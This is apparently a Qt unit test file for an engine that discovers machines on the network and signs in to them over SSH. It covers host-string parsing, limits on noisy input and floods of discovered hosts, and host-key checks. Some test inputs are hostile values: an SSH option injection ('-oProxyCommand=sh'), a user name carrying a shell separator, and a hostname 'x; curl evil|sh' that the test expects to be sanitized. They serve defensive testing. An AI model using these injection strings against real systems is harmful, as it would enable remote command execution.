// SPDX-License-Identifier: GPL-3.0-or-later
// What is told to the engine by people, machines on the network and agents, within its bounds; and the sign-in: host
// keys, the table that asks about them, logins.
#include "engine/discovery/discoveryservice.h"
#include "engine/discovery/makerbyname.h"
#include "engine/flow/keytable.h"
#include "engine/hosts/agentlines.h"
#include "engine/hosts/endpointtext.h"
#include "protocol/codec.h"
#include "protocol/limits.h"
#include "sessionfixture.h"

#include <QSignalSpy>
#include <QTest>

#include <algorithm>

using namespace sparkloom;
using namespace sparkloom::engine;
using namespace sparkloom::test;
using namespace Qt::Literals::StringLiterals;

namespace {

class FakeBackend : public DiscoveryBackend {
    Q_OBJECT
public:
    void start() override { started = true; }
    void stop() override { started = false; }
    void sight(
        const QString &hostName, const QString &interface, const QString &address, bool ipv6 = false, quint16 port = 22)
    {
        Q_EMIT sighted(sighting(hostName, interface, address, ipv6, port));
    }
    void lose(const QString &hostName, const QString &interface, bool ipv6 = false)
    {
        Q_EMIT lost(sighting(hostName, interface, {}, ipv6, 0));
    }
    static Sighting sighting(
        const QString &hostName, const QString &interface, const QString &address, bool ipv6, quint16 port)
    {
        Sighting sighting;
        sighting.name = hostName.section(u'.', 0, 0);
        sighting.hostName = hostName;
        sighting.serviceType = u"_ssh._tcp"_s;
        sighting.interfaceName = interface;
        sighting.interfaceIndex = interface == "eth0"_L1 ? 2 : 3;
        sighting.ipv6 = ipv6;
        sighting.address = address;
        sighting.port = port;
        return sighting;
    }
    bool started = false;
};

QByteArray hello()
{
    return QByteArray::fromStdString(protocol::helloLine({"0.1.0", "user", 1, false})) + '\n';
}

HostKeyQuestion question(const char *name, const char *blob)
{
    HostKeyQuestion question;
    question.name = QString::fromLatin1(name);
    question.key.type = u"ssh-ed25519"_s;
    question.key.blob = blob;
    question.key.fingerprint = QString::fromLatin1(blob);
    return question;
}

} // namespace

class TestHosts : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void hostText_isParsed_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("user");
        QTest::addColumn<QString>("host");
        QTest::addColumn<int>("port"); // 0: refused
        QTest::newRow("name") << u"spark-ab12"_s << QString() << u"spark-ab12"_s << 22;
        QTest::newRow("all") << u"ann@spark-ab12.local:2222"_s << u"ann"_s << u"spark-ab12.local"_s << 2222;
        QTest::newRow("v4") << u" 192.168.7.2 "_s << QString() << u"192.168.7.2"_s << 22;
        QTest::newRow("v6") << u"fe80::1%eth0"_s << QString() << u"fe80::1%eth0"_s << 22;
        QTest::newRow("v6 with port") << u"ann@[fe80::1%eth0]:22022"_s << u"ann"_s << u"fe80::1%eth0"_s << 22022;
        QTest::newRow("empty") << QString() << QString() << QString() << 0;
        QTest::newRow("port 0") << u"spark:0"_s << QString() << QString() << 0;
        QTest::newRow("port text") << u"spark:ssh"_s << QString() << QString() << 0;
        QTest::newRow("port empty") << u"spark:"_s << QString() << QString() << 0;
        QTest::newRow("port too large") << u"spark:65536"_s << QString() << QString() << 0;
        QTest::newRow("option") << u"-oProxyCommand=sh"_s << QString() << QString() << 0;
        QTest::newRow("user with shell") << u"a;b@spark"_s << QString() << QString() << 0;
        QTest::newRow("two users") << u"a@b@spark"_s << QString() << QString() << 0;
        QTest::newRow("blank") << u"spark ab12"_s << QString() << QString() << 0;
        QTest::newRow("open bracket") << u"[fe80::1"_s << QString() << QString() << 0;
        QTest::newRow("endless") << QString(5000, u'a') << QString() << QString() << 0;
    }

    void hostText_isParsed()
    {
        QFETCH(QString, text);
        QFETCH(QString, user);
        QFETCH(QString, host);
        QFETCH(int, port);
        const auto parsed = parseHostText(text);
        QCOMPARE(parsed.ok(), port != 0);
        if (!parsed) {
            QCOMPARE(parsed.error().kind, base::ErrorKind::Usage);
            return;
        }
        QCOMPARE(parsed->user, user);
        QCOMPARE(parsed->host, host);
        QCOMPARE(int(parsed->port), port);
    }

    void lines_skipNoiseUpToHello()
    {
        AgentLines lines;
        const QByteArray all =
            "Last login: today\n{not json\n" + hello() + "{\"v\":1,\"id\":1,\"t\":\"done\",\"body\":{}}\r\n{\"v\"";
        std::vector<std::string> seen;
        for (const char byte : all) { // however the bytes are cut
            const auto some = lines.take(QByteArray(1, byte), std::chrono::milliseconds(0));
            QVERIFY(some.ok());
            seen.insert(seen.end(), some->begin(), some->end());
        }
        QCOMPARE(seen.size(), std::size_t(2));
        QVERIFY(protocol::decodeLine(seen.back()).ok());
    }

    void lines_findHelloBehindAnUnfinishedLine()
    {
        AgentLines lines;
        const auto taken = lines.take(QByteArray("last login\nspark> \x1b[0m") + hello(), std::chrono::milliseconds(0));
        QVERIFY(taken.ok());
        QCOMPARE(taken->size(), std::size_t(1));
        QCOMPARE(QByteArray::fromStdString(taken->front()) + '\n', hello());
    }

    void lines_boundNoiseLengthAndRate()
    {
        AgentLines noisy;
        QVERIFY(
            !noisy.take(QByteArray(qsizetype(protocol::kMaxNoiseBytes) + 1, 'x'), std::chrono::milliseconds(0)).ok());
        // Also where hello follows in the same piece.
        AgentLines novel;
        QVERIFY(
            !novel
                 .take(QByteArray(qsizetype(protocol::kMaxNoiseBytes) + 1, 'x') + hello(), std::chrono::milliseconds(0))
                 .ok());
        AgentLines longLine;
        QVERIFY(longLine.take(hello(), std::chrono::milliseconds(0)).ok());
        QVERIFY(!longLine.take(QByteArray(qsizetype(protocol::kMaxMessageBytes) + 1, 'x'), std::chrono::milliseconds(0))
                     .ok());
        AgentLines fast;
        QByteArray many = hello();
        for (int i = 0; i < 2 * protocol::kMaxLinesPerSecond; ++i)
            many += "{}\n";
        QVERIFY(!fast.take(many, std::chrono::milliseconds(0)).ok());
        AgentLines steady;
        QVERIFY(steady.take(hello(), std::chrono::milliseconds(0)).ok());
        for (int second = 1; second <= 10; ++second) {
            QByteArray some;
            for (int i = 0; i < protocol::kMaxLinesPerSecond; ++i)
                some += "{}\n";
            QVERIFY(steady.take(some, std::chrono::seconds(second)).ok());
        }
    }

    void discovery_mergesInterfacesAndFamilies()
    {
        FakeBackend backend;
        DiscoveryService service({&backend});
        service.start();
        QVERIFY(backend.started);
        backend.sight(u"printer.local"_s, u"eth0"_s, u"192.168.7.9"_s);
        backend.sight(u"spark-ab12.local"_s, u"eth0"_s, u"fe80::1%eth0"_s, true);
        backend.sight(u"spark-ab12.local"_s, u"eth0"_s, u"192.168.7.2"_s);
        backend.sight(u"spark-ab12.local"_s, u"wlan0"_s, u"192.168.8.2"_s);
        QCOMPARE(service.found().size(), std::size_t(2));
        const FoundHost spark = service.found().front(); // likely Sparks come first
        QVERIFY(spark.likelySpark);
        QCOMPARE(spark.name, u"spark-ab12"_s);
        QCOMPARE(spark.networks, QStringList({u"eth0"_s, u"wlan0"_s}));
        QCOMPARE(spark.addresses.size(), 3);
        QCOMPARE(spark.addresses.back(), u"fe80::1%eth0"_s); // IPv4 first
        QVERIFY(!service.found().back().likelySpark);
        backend.lose(u"spark-ab12.local"_s, u"wlan0"_s);
        backend.lose(u"spark-ab12.local"_s, u"eth0"_s, true);
        QCOMPARE(service.found().front().addresses, QStringList(u"192.168.7.2"_s));
        backend.lose(u"spark-ab12.local"_s, u"eth0"_s);
        QCOMPARE(service.found().size(), std::size_t(1));
        service.stop();
        QVERIFY(service.found().empty());
    }

    void discovery_isBounded()
    {
        FakeBackend backend;
        DiscoveryService service({&backend});
        service.start();
        for (int i = 0; i < 700; ++i)
            backend.sight(u"spark-%1.local"_s.arg(i), u"eth0"_s, u"192.168.7.2"_s);
        QCOMPARE(service.found().size(), DiscoveryService::kMostHosts);
        for (int i = 0; i < 100; ++i)
            backend.sight(u"spark-1.local"_s, u"eth0"_s, u"192.168.9.%1"_s.arg(i + 1));
        QVERIFY(service.host(u"spark-1.local"_s)->addresses.size() <= int(DiscoveryService::kMostSightingsPerHost));
    }

    // A flood pushes out its own: who is in the cluster stays, and who is named like a Spark gives way last.
    void discovery_aFloodHidesNobodyWhoMatters()
    {
        FakeBackend backend;
        DiscoveryService service({&backend});
        service.setPinned([](const FoundHost &host) { return host.name == "desk"_L1; });
        service.start();
        backend.sight(u"desk.local"_s, u"eth0"_s, u"192.168.7.1"_s); // a member, whatever it is called
        backend.sight(u"spark-ab12.local"_s, u"eth0"_s, u"192.168.7.2"_s);
        for (int i = 0; i < 2 * int(DiscoveryService::kMostHosts); ++i)
            backend.sight(u"fake%1.local"_s.arg(i), u"eth0"_s, u"192.168.7.3"_s);
        QCOMPARE(service.found().size(), DiscoveryService::kMostHosts);
        QVERIFY(service.host(u"desk.local"_s) && service.host(u"spark-ab12.local"_s));
        QVERIFY(!service.host(u"fake0.local"_s));                          // seen longest ago
        backend.sight(u"spark-late.local"_s, u"eth0"_s, u"192.168.7.4"_s); // the table is full of strangers
        QVERIFY(service.host(u"spark-late.local"_s));
        for (int i = 0; i < 2 * int(DiscoveryService::kMostHosts); ++i)
            backend.sight(u"spark-%1.local"_s.arg(i), u"eth0"_s, u"192.168.7.3"_s);
        QCOMPARE(service.found().size(), DiscoveryService::kMostHosts);
        QVERIFY(service.host(u"desk.local"_s));
        QVERIFY(!service.host(u"spark-ab12.local"_s) && !service.host(u"fake999.local"_s));
        backend.sight(u"laptop.local"_s, u"eth0"_s, u"192.168.7.5"_s);
        QVERIFY(!service.host(u"laptop.local"_s)); // no stranger pushes a Spark out
    }

    void discovery_withoutBackendSaysSo()
    {
        DiscoveryService service({});
        QCOMPARE(service.health().state, DiscoveryHealth::State::Unavailable);
        QVERIFY(!service.health().problem.empty());
    }

    void sparkNames_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<bool>("likely");
        QTest::newRow("founders edition") << u"spark-5c2d.local"_s << true;
        QTest::newRow("conflict") << u"spark-5c2d-2.local"_s << true;
        QTest::newRow("ASUS") << u"gx10-9641.local"_s << true;
        QTest::newRow("Dell") << u"promaxgb10-5cd4.local"_s << true;
        QTest::newRow("printer") << u"officejet.local"_s << false;
        QTest::newRow("other spark") << u"sparkling.local"_s << false;
    }

    void sparkNames()
    {
        QFETCH(QString, name);
        QTEST(looksLikeSpark(name), "likely");
    }

    void makers_areGuessedByNameOfSparksOnly()
    {
        QCOMPARE(makerByHostName(u"spark-5c2d"_s), domain::Maker::FoundersEdition);
        QCOMPARE(makerByHostName(u"GX10-9641.local"_s), domain::Maker::Asus);
        QCOMPARE(makerByHostName(u"promaxgb10-5cd4.local"_s), domain::Maker::Dell);
        QCOMPARE(makerByHostName(u"sparkling.local"_s), domain::Maker::Unknown);
        QCOMPARE(makerByHostName(u"gx10.local"_s), domain::Maker::Unknown);
    }

    void keyTable_asksOnceWhenEverybodyIsThrough()
    {
        FakePerson person;
        const auto table = std::make_shared<KeyTable>(&person, CancelToken());
        table->connecting(3);
        auto a = table->ask(question("spark-a", "one")), b = table->ask(question("spark-b", "two"));
        table->settled();
        table->settled();
        QVERIFY(person.tables.empty());
        table->settled(); // the third one could not be reached
        QVERIFY(finish(std::move(a))->value() && finish(std::move(b))->value());
        QCOMPARE(person.tables.size(), std::size_t(1));
        QCOMPARE(person.tables.front().size(), std::size_t(2));
        QVERIFY(person.tables.front()[0].sameKeyAs.isEmpty());
    }

    void keyTable_warnsOfOneKeyOnTwoMachines()
    {
        FakePerson person;
        person.acceptsKeys = false;
        const auto table = std::make_shared<KeyTable>(&person, CancelToken());
        table->connecting(3);
        auto a = table->ask(question("spark-a", "same")), b = table->ask(question("spark-b", "same")),
             c = table->ask(question("spark-c", "other"));
        for (int i = 0; i < 3; ++i)
            table->settled();
        QVERIFY(!finish(std::move(a))->value() && !finish(std::move(b))->value() && !finish(std::move(c))->value());
        QCOMPARE(person.tables.front()[0].sameKeyAs, QStringList{u"spark-b"_s});
        QCOMPARE(person.tables.front()[1].sameKeyAs, QStringList{u"spark-a"_s});
        QVERIFY(person.tables.front()[2].sameKeyAs.isEmpty());
    }

    void keyTable_isGivenUpWithItsToken()
    {
        FakePerson person;
        const CancelToken token;
        const auto table = std::make_shared<KeyTable>(&person, token);
        table->connecting(2);
        auto answer = table->ask(question("spark-a", "one"));
        token.cancel();
        QCOMPARE(finish(std::move(answer))->error().kind, base::ErrorKind::Cancelled);
        table->settled();
        table->settled();
        QVERIFY(person.tables.empty());
    }

    void clonedKey_ofAKnownMachineIsNamed()
    {
        SessionFixture fixture;
        fixture.begin(2);
        fixture.sparks.spark(1).hostKey = fixture.sparks.spark(0).hostKey;
        QVERIFY(finish(fixture.session->signIn()).has_value());
        QCOMPARE(fixture.person.tables.size(), std::size_t(1));
        QCOMPARE(fixture.person.tables.front()[0].sameKeyAs.size(), 1);
        QCOMPARE(fixture.person.tables.front()[1].sameKeyAs.size(), 1);
    }

    void signIn_withAgentOrKeyFileThenOurOwnKey_data()
    {
        QTest::addColumn<bool>("agent");
        QTest::addColumn<QString>("passphrase");
        QTest::addColumn<bool>("gets");
        QTest::newRow("agent") << true << QString() << true;
        QTest::newRow("key file") << false << u"open sesame"_s << true;
        QTest::newRow("wrong passphrase") << false << u"open"_s << false;
    }

    void signIn_withAgentOrKeyFileThenOurOwnKey()
    {
        QFETCH(bool, agent);
        QFETCH(QString, passphrase);
        QFETCH(bool, gets);
        SessionFixture fixture;
        fixture.begin(1);
        FakeSpark &spark = fixture.sparks.spark(0);
        spark.acceptsAgent = agent;
        spark.keyFile = u"/home/ann/.ssh/id"_s;
        spark.keyPassphrase = "open sesame";
        fixture.person.usesAgent = agent;
        fixture.person.keyFile = agent ? QString() : spark.keyFile;
        fixture.person.keyPassphrase = passphrase.toStdString();
        QCOMPARE(finish(fixture.session->signIn())->ok(), gets);
        QCOMPARE(spark.count(agent ? "login:agent" : "login:file"), gets ? 1 : 0);
        QCOMPARE(spark.count("login:password"), 0);
        QCOMPARE(spark.authorizedKeys.size(), std::size_t(gets)); // our own key is installed, and proven
        QCOMPARE(spark.count("login:key"), gets ? 1 : 0);
        QVERIFY(spark.secretsSeen.find("open sesame") == std::string::npos);
    }

    // Sentences with what to type carry names of Sparks: none may be more than a word.
    void whatASparkCallsItself_isNoCommand()
    {
        SessionFixture fixture;
        fixture.begin(1);
        fixture.sparks.spark(0).facts.hostname = "x; curl evil|sh";
        QVERIFY(finish(fixture.session->signIn())->ok());
        QCOMPARE(fixture.session->hosts().front().facts->hostname, std::string("x--curl-evil-sh-"));
    }

    void replacedHostKey_needsTheNameTyped()
    {
        SessionFixture fixture;
        fixture.begin(1);
        QVERIFY(finish(fixture.session->signIn())->ok());
        const QString name = fixture.session->hosts().front().name;
        FakeSpark &spark = fixture.sparks.spark(0);
        spark.hostKey.fingerprint = u"SHA256:reinstalled"_s;
        spark.hostKey.blob = "reinstalled";
        spark.authorizedKeys.clear();
        spark.storedAgent.clear();
        fixture.reopen();
        (void)finish(fixture.session->signIn());
        QCOMPARE(fixture.session->hosts().front().state, HostState::HostKeyChanged);
        const auto refused = finish(fixture.session->replaceHostKey(name, u"something else"_s));
        QVERIFY(refused && !*refused);
        QCOMPARE(refused->error().message.id, std::string("hosts.name-not-confirmed"));
        QCOMPARE(fixture.session->hosts().front().state, HostState::HostKeyChanged);
        const auto replaced = finish(fixture.session->replaceHostKey(name, name));
        QVERIFY2(replaced && *replaced, replaced && !*replaced ? replaced->error().message.id.c_str() : "no end");
        QCOMPARE(fixture.session->hosts().front().state, HostState::Ready);
        QCOMPARE(fixture.hostKeys.known.value(name).fingerprint, spark.hostKey.fingerprint);
    }

    void refusedHostKey_sendsNothing()
    {
        SessionFixture fixture;
        fixture.person.acceptsKeys = false;
        fixture.begin(2);
        const auto result = finish(fixture.session->signIn());
        QVERIFY(result && !*result);
        QCOMPARE(result->error().kind, base::ErrorKind::Refused);
        QVERIFY(fixture.person.credentialsAsked.empty());
        for (int i = 0; i < 2; ++i) {
            QVERIFY(fixture.sparks.spark(i).secretsSeen.empty());
            QCOMPARE(fixture.sparks.spark(i).log, std::vector<std::string>{"connect"});
        }
    }

    void changedHostKey_isAHardStop()
    {
        SessionFixture fixture;
        fixture.begin(2);
        QVERIFY(finish(fixture.session->signIn())->ok());
        FakeSpark &changed = fixture.sparks.spark(0);
        changed.hostKey.fingerprint = u"SHA256:other"_s;
        changed.hostKey.blob = "other";
        fixture.reopen();
        changed.log.clear();
        changed.secretsSeen.clear();
        QVERIFY(finish(fixture.session->signIn())->ok()); // the other one got through
        const HostView host = fixture.session->hosts().front();
        QCOMPARE(host.state, HostState::HostKeyChanged);
        QCOMPARE(host.error->kind, base::ErrorKind::Refused);
        QCOMPARE(changed.log, std::vector<std::string>{"connect"});
        QVERIFY(changed.secretsSeen.empty());
        QCOMPARE(fixture.session->hosts().back().state, HostState::Ready);
    }

    void sameMachineId_isOneMachineOrTwo_data()
    {
        QTest::addColumn<QByteArray>("bootId");
        QTest::addColumn<QByteArray>("message");
        QTest::newRow("one machine under two names") << QByteArray("boot-1") << QByteArray("hosts.same-machine");
        QTest::newRow("a copied disk") << QByteArray("boot-2") << QByteArray("hosts.cloned-machine-id");
    }

    void sameMachineId_isOneMachineOrTwo()
    {
        QFETCH(QByteArray, bootId);
        QFETCH(QByteArray, message);
        SessionFixture fixture;
        fixture.begin(2);
        fixture.sparks.spark(1).facts.id = fixture.sparks.spark(0).facts.id;
        fixture.sparks.spark(1).facts.bootId = bootId.toStdString();
        QVERIFY(finish(fixture.session->signIn())->ok());
        const auto hosts = fixture.session->hosts();
        const auto failed = std::find_if(
            hosts.begin(), hosts.end(), [](const HostView &host) { return host.state == HostState::Failed; });
        QVERIFY(failed != hosts.end());
        QCOMPARE(failed->error->message.id, message.toStdString());
        QCOMPARE(std::count_if(
                     hosts.begin(), hosts.end(), [](const HostView &host) { return host.state == HostState::Ready; }),
            1);
    }

    void unreachableSpark_doesNotHoldUpTheOther()
    {
        SessionFixture fixture;
        fixture.begin(2);
        fixture.sparks.spark(0).reachable = false;
        QVERIFY(finish(fixture.session->signIn())->ok());
        QCOMPARE(fixture.session->hosts().front().state, HostState::Failed);
        QCOMPARE(fixture.session->hosts().front().error->kind, base::ErrorKind::Unreachable);
        QCOMPARE(fixture.session->hosts().back().state, HostState::Ready);
    }
};

QTEST_GUILESS_MAIN(TestHosts)
#include "tst_hosts.moc"
